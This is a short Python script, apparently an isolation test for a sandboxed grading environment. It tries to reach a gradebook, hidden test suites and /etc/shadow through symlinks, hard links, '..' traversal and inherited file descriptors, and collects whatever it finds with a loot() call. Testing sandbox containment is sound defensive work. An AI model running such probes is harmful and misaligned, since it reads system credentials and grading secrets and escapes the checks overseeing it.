"""Reaches secrets by symbolic and hard links, by `..`, by inherited descriptors and by /dev/fd."""
# deserves: 18
# layers: needed, loots without

import os

targets = [machine.gradebook, machine.other, f"{machine.package}/suites/hidden", "/etc/shadow", "/"]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        try:
            make(target, f"link-{number}")
            if os.path.isdir(f"link-{number}"):
                inside = os.listdir(f"link-{number}")
                if "etc" not in inside:
                    loot(inside)
            else:
                with open(f"link-{number}") as file:
                    loot(file.read())
        except OSError:
            continue
for handle in range(64):
    for path in ("..", "../../../../../../etc/shadow", machine.gradebook[1:]):
        try:
            opened = os.open(path, os.O_RDONLY, dir_fd=handle)
        except OSError:
            continue
        loot(f"descriptor {handle} leads to {path}")
